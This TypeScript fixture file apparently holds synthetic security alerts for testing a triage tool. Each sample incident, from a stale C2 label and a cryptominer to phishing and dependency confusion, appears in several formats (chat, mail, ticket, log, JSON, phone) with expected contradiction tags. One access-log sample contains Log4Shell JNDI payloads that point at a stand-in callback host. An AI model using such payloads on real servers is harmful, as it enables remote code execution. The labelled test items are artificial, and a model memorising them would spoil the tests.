/* eslint-disable max-lines -- it is data: alerts as they were pasted */
import type { Replay } from './samples.ts';

/** An alert as somebody wrote it who has never seen the archive, and what it is. */
export type Stranger = Replay & { kind: string };

const chat = 'a chat in Chinese';
const mail = 'a mail with what it answers';
const ticket = 'a ticket';
const log = 'lines of a log';
const json = 'nested JSON of no known product';
const phone = 'a sentence typed on a phone';

/** Six alerts for each report of the sample archive up to 2024; kinds of contradictions in order of the alphabet. */
const EARLIER: readonly Stranger[] = [
  // INC-2023-0001
  {
    id: 'INC-2023-0001',
    kind: chat,
    paste: `夜班-A 09:12
各位，test-bastion 的公网地址 203[.]0[.]113[.]45 被情报打标，微步写的是 CS 远控
夜班-A 09:13
页面上最近一次恶意活动是 2022年10月16日
值长 09:14
这台跑的是 CentOS 吧？IP 是 2022年10月22日 才分给我们的
夜班-A 09:15
对，CentOS 7。关联样本是 PE32+ executable，文件名 test.exe`,
    against: ['old-label', 'ownership-window', 'platform-mismatch', 'withdrawn-before'],
  },
  {
    id: 'INC-2023-0001',
    kind: mail,
    paste: `From: TI Support <support@vendor.example>
To: soc@corp.example
Subject: RE: RE: [Case 88213] why is our address on your C2 list
Date: Wed, 20 Sep 2023 16:41:09 +0800
Message-ID: <77@vendor.example>

Hi team,

the verdict for 203.0.113.45 is malicious (Cobalt Strike). The newest sample we hold for it was collected on 16 Oct 2022, it is a Win64 executable.

Best regards
Level 2 Analyst
VENDOR Threat Intelligence | +86 10 5550 0123 | https://www.vendor.example
--
This message is confidential.

> On Tue, 19 Sep 2023 at 18:02, SOC wrote:
> Please explain. The host behind it is an Ubuntu 20.04 jump host,
> and the IP has been ours since 2022-10-22.`,
    against: ['old-label', 'ownership-window', 'platform-mismatch', 'withdrawn-before', 'withdrawn-before'],
  },
  {
    id: 'INC-2023-0001',
    kind: ticket,
    paste: `Ticket: SEC-20417
Priority: P1
Opened: 2023-09-19 09:30 CST
Asset: test-bastion
Asset OS: Rocky Linux 8.8
IP in use since: 2022-10-22
Description:
  Three feeds list 203.0.113[.]45 as C2 (ThreatBook, QiAnXin, 360).
  Last malicious activity: 2022-10-16
  Related file: test.exe (Win64/Heur)
Requested action: isolate and rebuild`,
    against: [
      'old-label',
      'one-origin',
      'ownership-window',
      'platform-mismatch',
      'withdrawn-before',
      'withdrawn-before',
    ],
  },
  {
    id: 'INC-2023-0001',
    kind: log,
    paste: `Sep 19 09:10:01 ti-gw CRON[991]: (root) CMD (/usr/lib/sysstat/sa1 1 1)
Sep 19 09:10:02 ti-gw ti-match[2210]: hit ioc=203.0.113.45 type=c2 family=CobaltStrike vendor=threatbook last_active=2022-10-16 confidence=90
Sep 19 09:10:02 ti-gw systemd[1]: Started Session 4411 of user root.
Sep 19 09:10:05 ti-gw dnsmasq[801]: query[A] ntp.example.com from 10.0.0.8`,
    against: ['old-label', 'ownership-window', 'withdrawn-before'],
  },
  {
    id: 'INC-2023-0001',
    kind: json,
    paste: JSON.stringify({
      evt: {
        meta: { emitted: 1695085800, ruleText: 'owned address appears on C2 feed' },
        subject: { box: 'test-bastion', platformName: 'CentOS Linux 7' },
        intelHit: {
          observable: { kind: 'ipv4', val: '203.0.113.45' },
          by: 'ThreatBook',
          tags: ['CobaltStrike', 'C2'],
          lastActiveTs: 1665878400,
          sampleInfo: { magicType: 'PE32+ executable (GUI) x86-64' },
        },
      },
    }),
    against: ['old-label', 'ownership-window', 'platform-mismatch', 'withdrawn-before'],
  },
  {
    id: 'INC-2023-0001',
    kind: phone,
    paste:
      'fyi 203.0.113[dot]45 (our test jump box) shows up as cobalt strike on threatbook again, pls check',
    against: ['withdrawn-before'],
  },
  // INC-2023-0002
  {
    id: 'INC-2023-0002',
    kind: chat,
    paste: `[10:15] 小周：防火墙刷屏了，内网 14 台办公机外联 203.0.113.45:443，规则名“内网主机外联 CobaltStrike 远控 IP”
[10:16] 小周：要不要先断网？
[10:18] 老郑：目的地址先查台账`,
    against: ['withdrawn-before', 'withdrawn-before'],
  },
  {
    id: 'INC-2023-0002',
    kind: mail,
    paste: `From: fw-alerts@corp.example
To: soc@corp.example
Subject: [HIGH] 内网主机外联 CobaltStrike 远控 IP (14 hosts)
Date: Thu, 21 Sep 2023 10:12:33 +0800

Source hosts: 192.0.2.23, 192.0.2.31 and 12 more
Destination: 203.0.113.45:443
Feed: QiAnXin built-in
--
Edge firewall, do not reply`,
    against: ['withdrawn-before'],
  },
  {
    id: 'INC-2023-0002',
    kind: ticket,
    paste: `事件编号：2023-0921-07
告警设备：边界防火墙
告警名称：内网主机外联 CobaltStrike 远控 IP
源地址：192.0.2.23、192.0.2.31 等 14 个
目的地址：203.0.113.45
目的端口：443
情报来源：奇安信
建议：断网`,
    against: ['withdrawn-before'],
  },
  {
    id: 'INC-2023-0002',
    kind: log,
    paste: `Sep 21 10:12:00 edge-fw1 %FW-4-TI: action=alert src=192.0.2.23 dst=203.0.113.45 dport=443 rule="内网主机外联 CobaltStrike 远控 IP" ti=qianxin
Sep 21 10:12:01 edge-fw1 %FW-6-SESS: action=permit src=192.0.2.40 dst=8.8.8.8 dport=53
Sep 21 10:12:03 edge-fw1 %FW-4-TI: action=alert src=192.0.2.31 dst=203.0.113.45 dport=443 rule="内网主机外联 CobaltStrike 远控 IP" ti=qianxin`,
    against: ['withdrawn-before'],
  },
  {
    id: 'INC-2023-0002',
    kind: json,
    paste: JSON.stringify({
      payload: {
        sig: { text: '内网主机外联 CobaltStrike 远控 IP', lvl: 4 },
        flow: { from: { host4: '192.0.2.23' }, to: { host4: '203.0.113.45', prt: 443 } },
        clock: { firedMs: 1695262320000 },
      },
    }),
    against: ['withdrawn-before', 'withdrawn-before'],
  },
  {
    id: 'INC-2023-0002',
    kind: phone,
    paste: '防火墙说 14 台办公电脑外联远控 203。0。113。45，是不是咱们堡垒机那个地址',
    against: ['withdrawn-before', 'withdrawn-before'],
  },
  // INC-2022-0001
  {
    id: 'INC-2022-0001',
    kind: chat,
    paste: `合作方反馈：调用 api.example.com 大概一半请求报证书过期
我本地看证书文件没问题啊，certbot 上个月就续了
是不是 gw-b 没 reload？nginx 还拿着旧证书`,
    against: [],
  },
  {
    id: 'INC-2022-0001',
    kind: mail,
    paste: `From: integrations@partner.example
To: support@corp.example
Subject: Intermittent TLS failures on your API
Date: Mon, 7 Nov 2022 07:28:10 +0800

Hello,
since a quarter past seven roughly every other handshake with api.example.com is refused by our clients: "x509: certificate has expired or is not yet valid". Retrying often helps.
Kind regards,
Integration Desk

> On Fri, 4 Nov 2022 support@corp.example wrote:
> your quota was raised as asked`,
    against: [],
  },
  {
    id: 'INC-2022-0001',
    kind: ticket,
    paste: `INCIDENT #5519
Service: api gateway
Impact: ~50% of new TLS connections fail
Symptom: certificate has expired
Nodes: gw-a ok, gw-b failing
Probe status: green
Cert on disk: valid until Jan 2023`,
    against: [],
  },
  {
    id: 'INC-2022-0001',
    kind: log,
    paste: `2022-11-07T07:31:12+08:00 client-77 curl: (60) SSL certificate problem: certificate has expired, peer 198.51.100.12:443 api.example.com
2022-11-07T07:31:13+08:00 client-77 curl: ok, peer 198.51.100.11:443 api.example.com
2022-11-07T07:31:15+08:00 client-77 chronyd[55]: Selected source 203.0.113.123`,
    against: [],
  },
  {
    id: 'INC-2022-0001',
    kind: json,
    paste: JSON.stringify({
      probe: {
        target: { fqdn: 'api.example.com', node: 'gw-b' },
        outcome: { ok: false, err: { txt: 'tls: certificate has expired', atMs: 1667777400000 } },
      },
    }),
    against: [],
  },
  {
    id: 'INC-2022-0001',
    kind: phone,
    paste: 'api[.]example[.]com half of calls fail, certificate has expired, but certbot renewed weeks ago??',
    against: [],
  },
  // INC-2024-0001
  {
    id: 'INC-2024-0001',
    kind: chat,
    paste: `[9:06] 阿远：ci-build-03 CPU 打满了，top 里啥也看不到
[9:20] 阿远：docker ps 多了个特权容器，挂了宿主机根目录
[9:33] 阿远：2375 对公网开着……有连接到 pool[.]example[.]net:3333，像矿池`,
    against: [],
  },
  {
    id: 'INC-2024-0001',
    kind: mail,
    paste: `From: abuse@cloud.example
To: security@corp.example
Subject: Abuse report: crypto mining from your instance
Date: Sun, 18 Feb 2024 09:30:00 +0800

Dear customer,
your instance ci-build-03 (CentOS 7) talks Stratum to 198.51.100.144. The binary is an ELF64 XMRig build, last activity on 2024-02-18.
Regards, Abuse desk

> Ticket opened automatically on 2024-02-17`,
    against: [],
  },
  {
    id: 'INC-2024-0001',
    kind: ticket,
    paste: `工单号 20240218-003
标题 CPU 使用率持续高于 95%
主机 ci-build-03
系统 Linux
现象 load 高，top 看不到进程，重启后又来
外联 198.51.100.144、192.0.2.146
可疑文件 /usr/local/lib/libnss_cache.so`,
    against: [],
  },
  {
    id: 'INC-2024-0001',
    kind: log,
    paste: `Feb 11 03:42:17 ci-build-03 dockerd[811]: API listen on [::]:2375
Feb 11 03:42:18 ci-build-03 dockerd[811]: POST /v1.24/containers/create from 192.0.2.146
Feb 11 03:42:20 ci-build-03 kernel: docker0: port 3(veth1) entered forwarding state
Feb 11 03:44:02 ci-build-03 named[402]: query: pool.example.net IN A`,
    against: [],
  },
  {
    id: 'INC-2024-0001',
    kind: json,
    paste: JSON.stringify({
      detectionEnvelope: {
        what: {
          headline: 'Cryptominer in container',
          artefact: {
            sha: '6f1c9b0e4d7a25388be1f0c3a9d4457216e08bb3cf9a7d51042e6c8fb73d19ea',
            fmt: 'ELF 64-bit LSB executable',
          },
        },
        where: { nodeName: 'ci-build-03', nodeOs: 'linux' },
        when: { t: 1708218300 },
      },
    }),
    against: [],
  },
  {
    id: 'INC-2024-0001',
    kind: phone,
    paste: 'build box mining again?? docker api 2375 open, talks to 198[.]51[.]100[.]144',
    against: [],
  },
  // INC-2024-0002
  {
    id: 'INC-2024-0002',
    kind: chat,
    paste: `客服：好几个客户说活动页 campaign[.]example[.]org 打不开，浏览器提示钓鱼
运营：我们自己打开是好的啊
安全：地址是 198.51.100.80，共享主机，微步标了 Phishing`,
    against: ['withdrawn-before'],
  },
  {
    id: 'INC-2024-0002',
    kind: mail,
    paste: `From: customer@isp.example
To: help@corp.example
Subject: Re: cannot open your campaign
Date: Tue, 21 May 2024 09:31:55 +0800

Our resolver says "blocked: phishing" for campaign.example.org. Is your site hacked?

Sent from my phone

> On 20 May 2024, help@corp.example wrote:
> > Please find our spring offers at https://campaign.example.org/spring`,
    against: [],
  },
  {
    id: 'INC-2024-0002',
    kind: ticket,
    paste: `Summary: DNS filter blocks our marketing site
Affected: campaign.example.org (198.51.100.80, shared web hosting)
Label: Phishing, by ThreatBook, newest evidence 2024-05-18
Our address since: 2024-04-02
Reported: 2024-05-21 09:48`,
    against: ['withdrawn-before'],
  },
  {
    id: 'INC-2024-0002',
    kind: log,
    paste: `21-May-2024 09:44:10.101 rpz: info: client @0x7f 10.1.1.7#5311 (campaign.example.org): rpz QNAME NXDOMAIN rewrite campaign.example.org via phishing.rpz
21-May-2024 09:44:10.300 queries: info: client 10.1.1.9#4111 (www.example.com): query
21-May-2024 09:44:11.020 rpz: info: client @0x7f 10.1.1.8#6100 (campaign.example.org): rpz QNAME NXDOMAIN rewrite campaign.example.org via phishing.rpz`,
    against: [],
  },
  {
    id: 'INC-2024-0002',
    kind: json,
    paste: JSON.stringify({
      report: {
        item: { site: 'https://campaign.example.org/', resolvesTo: '198.51.100.80' },
        opinions: [
          { who: 'ThreatBook', says: { category: 'Phishing', mostRecentProof: '2024-05-18' } },
          { who: 'VirusTotal', says: { category: 'phishing' } },
        ],
        raisedAt: 1716256080,
      },
    }),
    against: ['one-origin', 'withdrawn-before'],
  },
  {
    id: 'INC-2024-0002',
    kind: phone,
    paste: 'customers get a phishing warning for campaign . example . org, shared hosting 198.51.100[.]80',
    against: ['withdrawn-before'],
  },
  // INC-2024-0003
  {
    id: 'INC-2024-0003',
    kind: chat,
    paste: `[10:21] 值班：订单接口大量 504，upstream timed out
[10:25] 值班：回滚了 10:02 的发布，没用
[11:40] SRE：nginx 连的还是旧 SLB 198.51.100.23，那个早上已经释放了`,
    against: [],
  },
  {
    id: 'INC-2024-0003',
    kind: mail,
    paste: `From: prometheus@corp.example
To: sre@corp.example
Subject: [FIRING:1] 订单接口 5xx 比例高于 5%
Date: Wed, 14 Aug 2024 10:18:00 +0800

instance = edge-nginx
value = 74%
runbook = https://wiki.corp.example/orders

--
Alertmanager`,
    against: [],
  },
  {
    id: 'INC-2024-0003',
    kind: ticket,
    paste: `Title: orders return 504 from three of four edge nodes
Started: 2024-08-14 10:16 +08:00
Component: edge-nginx
Upstream: orders-internal.example.com
Seen upstream address: 198.51.100.23 (load balancer was released this morning)
Tried: rollback of the order service, no effect`,
    against: [],
  },
  {
    id: 'INC-2024-0003',
    kind: log,
    paste: `2024/08/14 10:18:31 [error] 2211#2211: *88121 upstream timed out (110: Connection timed out) while connecting to upstream, server: shop.example.com, request: "GET /orders/v2/list HTTP/1.1", upstream: "https://198.51.100.23:443/v2/list"
2024/08/14 10:18:32 [info] 2211#2211: *88122 client closed connection
2024/08/14 10:18:40 [error] 2211#2211: *88140 upstream timed out (110: Connection timed out) while connecting to upstream, upstream: "https://198.51.100.23:443/v2/88213"`,
    against: [],
  },
  {
    id: 'INC-2024-0003',
    kind: json,
    paste: JSON.stringify({
      group: {
        labels: { alert: '订单接口 5xx 比例高于 5%', pod: 'edge-nginx' },
        sample: { peer: '198.51.100.23:443', code: 504 },
        since: { unix: 1723601880 },
      },
    }),
    against: [],
  },
  {
    id: 'INC-2024-0003',
    kind: phone,
    paste: '订单全是 504，nginx 好像还连着已经释放的 198[.]51[.]100[.]23',
    against: [],
  },
  // INC-2024-0004
  {
    id: 'INC-2024-0004',
    kind: chat,
    paste: `流量周报里 billing-replica-2 半夜 2 点往外传了 2.2T
数据外泄？那个点没有任务
会不会是备份，时区看一下`,
    against: [],
  },
  {
    id: 'INC-2024-0004',
    kind: mail,
    paste: `From: netflow@corp.example
To: soc@corp.example
Subject: outbound volume outside of the job window
Date: Thu, 17 Oct 2024 09:30:00 +0800

billing-replica-2 sent 2.2 TB to the object store at 02:04. No job is planned then.

> previous report: nothing to see, 10 Oct 2024`,
    against: [],
  },
  {
    id: 'INC-2024-0004',
    kind: ticket,
    paste: `Type: possible data exfiltration
Host: billing-replica-2
OS: Linux
Volume: 2.2 TB in one night
Found by: weekly flow review
Question: is it the backup?`,
    against: [],
  },
  {
    id: 'INC-2024-0004',
    kind: log,
    paste: `2024-10-16T02:04:11Z flow src=192.0.2.40 dst=192.0.2.200 dport=443 bytes=2184057067256 host=billing-replica-2
2024-10-16T02:04:12Z flow src=192.0.2.41 dst=192.0.2.200 dport=443 bytes=8812
2024-10-16T02:04:13Z flow src=192.0.2.42 dst=192.0.2.200 dport=443 bytes=9120`,
    against: [],
  },
  {
    id: 'INC-2024-0004',
    kind: json,
    paste: JSON.stringify({
      analytic: {
        caption: 'outbound volume outside of the job window',
        detail: { unit: { nm: 'billing-replica-2' }, octets: 2184057067256, beganMs: 1729044251000 },
      },
    }),
    against: [],
  },
  {
    id: 'INC-2024-0004',
    kind: phone,
    paste: 'billing-replica-2 pushed 2 terabytes out at night, exfil or backup?',
    against: [],
  },
];

/** Six alerts for each report of the sample archive from 2025 on. */
const LATER: readonly Stranger[] = [
  // INC-2025-0001
  {
    id: 'INC-2025-0001',
    kind: chat,
    paste: `财务同事说收到供应商回信，点开链接要登录，登录完文档是空的
链接 hxxps://invoice-share[.]example[.]net/view
MFA 她自己点了同意，之后 finance-07 邮箱多了条收件箱规则`,
    against: [],
  },
  {
    id: 'INC-2025-0001',
    kind: mail,
    paste: `From: clerk@corp.example
To: phishing@corp.example
Subject: Fwd: Re: Invoice 2025-031
Date: Tue, 11 Mar 2025 11:01:00 +0800

I signed in there and the document was empty. Is this real?

> From: accounts@supplier.example.org
> Please see the shared invoice: https://invoice-share[.]example[.]net/view?id=7
> Kind regards, Accounts`,
    against: [],
  },
  {
    id: 'INC-2025-0001',
    kind: ticket,
    paste: `Category: phishing / account takeover
User: finance-07
Sign-in IP: 192.0.2.61 (hosting network)
User agent: python-httpx/0.27
MFA: satisfied by claim in the token
First seen: 2025-03-11 10:41
Last seen: 2025-03-11 14:49`,
    against: ['old-label'],
  },
  {
    id: 'INC-2025-0001',
    kind: log,
    paste: `2025-03-11T10:41:07+08:00 idp signin user=finance-07@corp.example ip=192.0.2.61 mfa=push result=success
2025-03-11T10:47:30+08:00 idp signin user=finance-07@corp.example ip=192.0.2.61 ua=python-httpx/0.27 interactive=false result=success
2025-03-11T10:47:31+08:00 idp signin user=sales-02@corp.example ip=10.9.8.7 result=success`,
    against: [],
  },
  {
    id: 'INC-2025-0001',
    kind: json,
    paste: JSON.stringify({
      riskEvent: {
        principal: { upn: 'finance-07@corp.example' },
        net: { clientAddr: '192.0.2.61', asnKind: 'hosting' },
        seenAt: { epoch: 1741660867 },
        lure: { link: 'https://invoice-share.example.net/view' },
      },
    }),
    against: [],
  },
  {
    id: 'INC-2025-0001',
    kind: phone,
    paste: 'clicked invoice-share[.]example[.]net and approved the push, doc was empty, is my mailbox hacked',
    against: [],
  },
  // INC-2025-0002
  {
    id: 'INC-2025-0002',
    kind: chat,
    paste: `云厂商短信：AccessKey 从未知地址调用，账号 ci-pull
来源 192[.]0[.]2[.]201，先 GetCallerIdentity 再列权限
谁在出差？`,
    against: [],
  },
  {
    id: 'INC-2025-0002',
    kind: mail,
    paste: `From: no-reply@cloud.example
To: cloud-admins@corp.example
Subject: Unusual use of an access key
Date: Mon, 23 Jun 2025 21:16:20 +0800

Account: ci-pull
Called from: 192.0.2.201, never seen before
Calls: GetCallerIdentity, ListBuckets, GetObject
Please rotate the key.`,
    against: [],
  },
  {
    id: 'INC-2025-0002',
    kind: ticket,
    paste: `标题：AccessKey 从未知地址调用
等级：高
子账号：ci-pull
来源 IP：192.0.2.201
首次发现：2025-06-21 02:10
最后发现：2025-06-24 00:40
备注：密钥可能在公开镜像 registry.example.com/tools/report-gen:1.8.2 里`,
    against: ['old-label'],
  },
  {
    id: 'INC-2025-0002',
    kind: log,
    paste: `2025-06-23T21:15:58+08:00 ram user=ci-pull action=sts:GetCallerIdentity src=192.0.2.201 ua=aliyun-cli
2025-06-23T21:16:02+08:00 oss user=ci-pull action=ListObjects bucket=build-cache src=192.0.2.201
2025-06-23T21:16:03+08:00 oss user=web-rw action=GetObject bucket=assets src=10.4.4.4`,
    against: [],
  },
  {
    id: 'INC-2025-0002',
    kind: json,
    paste: JSON.stringify({
      trail: {
        actor: { subUser: 'ci-pull', keyTail: '7Q' },
        origin: { remote: '192.0.2.201' },
        op: { nm: 'GetCallerIdentity', tsMs: 1750684560000 },
      },
    }),
    against: [],
  },
  {
    id: 'INC-2025-0002',
    kind: phone,
    paste: 'key of ci-pull used from 192.0.2[.]201 just now, leaked in a public image?',
    against: [],
  },
  // INC-2025-0003
  {
    id: 'INC-2025-0003',
    kind: chat,
    paste: `Suricata 一晚上 4000 多条 log4j 告警，打官网的
源 192.0.2[.]77，回连域名 cb[.]example[.]net
官网是 Go 写的，应该没事？`,
    against: [],
  },
  {
    id: 'INC-2025-0003',
    kind: mail,
    paste: `From: ids@corp.example
To: soc@corp.example
Subject: 4812 x ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)
Date: Wed, 3 Sep 2025 06:00:00 +0800

Top source: 192.0.2.77
Target: 203.0.113.10
--
IDS digest`,
    against: [],
  },
  {
    id: 'INC-2025-0003',
    kind: ticket,
    paste: `Rule: 2034647
Name: log4j RCE attempt
Attacker: 192.0.2.77
Target: www (Linux arm64)
Count: 4812
Response: 404
Last seen: 2025-09-03`,
    against: ['old-label'],
  },
  {
    id: 'INC-2025-0003',
    kind: log,
    paste: `192.0.2.77 - - [03/Sep/2025:01:17:21 +0800] "GET /?x=\${jndi:ldap://cb.example.net/a} HTTP/1.1" 200 18244 "-" "Mozilla/5.0"
192.0.2.99 - - [03/Sep/2025:01:17:22 +0800] "GET /robots.txt HTTP/1.1" 200 61 "-" "bot"
192.0.2.77 - - [03/Sep/2025:01:17:23 +0800] "GET /solr/?x=\${jndi:ldap://cb.example.net/b} HTTP/1.1" 404 153 "-" "-"`,
    against: [],
  },
  {
    id: 'INC-2025-0003',
    kind: json,
    paste: JSON.stringify({
      hit: {
        sensor: { nm: 'edge-ids' },
        rule: { num: 2034647 },
        ends: { a: { v4: '192.0.2.77' }, b: { v4: '203.0.113.10' } },
        tick: 1756833420,
      },
    }),
    against: [],
  },
  {
    id: 'INC-2025-0003',
    kind: phone,
    paste: 'log4shell scans all night from 192[.]0[.]2[.]77 on www, do we care?',
    against: [],
  },
  // INC-2026-0001
  {
    id: 'INC-2026-0001',
    kind: chat,
    paste: `ws-rt-02 九秒内要了 40 张 RC4 的服务票据，Kerberoasting？
今天有红队演练吗
规则是 Suspicious Kerberos RC4 Ticket Encryption`,
    against: [],
  },
  {
    id: 'INC-2026-0001',
    kind: mail,
    paste: `From: siem@corp.example
To: duty@corp.example
Subject: Sigma: Suspicious Kerberos RC4 Ticket Encryption on ws-rt-02
Date: Tue, 20 Jan 2026 22:31:30 +0800

Forty tickets with 0x17 from 192.0.2.112 within nine seconds.
> earlier today: exercise window announced`,
    against: [],
  },
  {
    id: 'INC-2026-0001',
    kind: ticket,
    paste: `Detection: Kerberoasting
Rule ID: 496a0e47-0a33-4dca-b009-9e6ca3591f39
Workstation: ws-rt-02 (Windows 11)
Client address: 192.0.2.112
Encryption: RC4 (0x17)
Red team exercise running: maybe`,
    against: [],
  },
  {
    id: 'INC-2026-0001',
    kind: log,
    paste: `2026-01-20T22:31:00+08:00 dc1 EventCode=4769 TicketEncryptionType=0x17 ServiceName=svc-sql ClientAddress=192.0.2.112 Computer=ws-rt-02
2026-01-20T22:31:01+08:00 dc1 EventCode=4624 LogonType=3 TargetUserName=helpdesk
2026-01-20T22:31:02+08:00 dc1 EventCode=4769 TicketEncryptionType=0x17 ServiceName=svc-bkp ClientAddress=192.0.2.112 Computer=ws-rt-02`,
    against: [],
  },
  {
    id: 'INC-2026-0001',
    kind: json,
    paste: JSON.stringify({
      notable: {
        srch: 'Suspicious Kerberos RC4 Ticket Encryption',
        ent: { ws: 'ws-rt-02', osName: 'Windows 11 Enterprise' },
        fired: { at: 1768919460 },
      },
    }),
    against: [],
  },
  {
    id: 'INC-2026-0001',
    kind: phone,
    paste: 'kerberoast alert rc4 tickets from ws-rt-02, is the red team on?',
    against: [],
  },
  // INC-2026-0002
  {
    id: 'INC-2026-0002',
    kind: chat,
    paste: `依赖机器人的 MR 里 example-orders-ui-kit 跳到 99.0.1，resolved 变成 registry.npmjs.org
有安装脚本，已经在 CI 里跑过了
外联 metrics[.]example[.]net`,
    against: [],
  },
  {
    id: 'INC-2026-0002',
    kind: mail,
    paste: `From: reviewer@corp.example
To: security@corp.example
Subject: strange lockfile change
Date: Tue, 12 May 2026 09:12:00 +0800

The bot bumped example-orders-ui-kit from 4.12.0 to 99.0.1 and its registry changed to the public one. It has an install script. Dependency confusion?
> On 11 May 2026, bot wrote:
> Bump dependencies`,
    against: [],
  },
  {
    id: 'INC-2026-0002',
    kind: ticket,
    paste: `Finding: malicious npm package ran in CI
Package: example-orders-ui-kit@99.0.1
Egress: 198.51.100.151:443
Runner: ci-runner pool (Linux container)
File type: JavaScript
Last evidence: 2026-05-12`,
    against: ['old-label'],
  },
  {
    id: 'INC-2026-0002',
    kind: log,
    paste: `2026-05-11T19:06:21+08:00 runner-17 egress dst=198.51.100.151:443 bytes=4817 host=metrics.example.net
2026-05-11T19:06:22+08:00 runner-17 npm: added 214 packages in 9s
2026-05-11T19:44:58+08:00 runner-09 egress dst=198.51.100.151:443 bytes=5102 host=metrics.example.net`,
    against: [],
  },
  {
    id: 'INC-2026-0002',
    kind: json,
    paste: JSON.stringify({
      scan: {
        pkg: {
          coord: 'example-orders-ui-kit@99.0.1',
          digest: { alg: 'sha256', hex: 'c2b5a1f0d8e94a7763bd10e2f5c8a6943b7e01dd98f4425ca6e1730f92bb8d54' },
        },
        egress: { fqdn: 'metrics.example.net' },
        ts: { ms: 1778548320000 },
      },
    }),
    against: [],
  },
  {
    id: 'INC-2026-0002',
    kind: phone,
    paste:
      'npm pulled example-orders-ui-kit 99.0.1 from public registry and it phones metrics[.]example[.]net',
    against: [],
  },
];

export const STRANGERS: readonly Stranger[] = [...EARLIER, ...LATER];
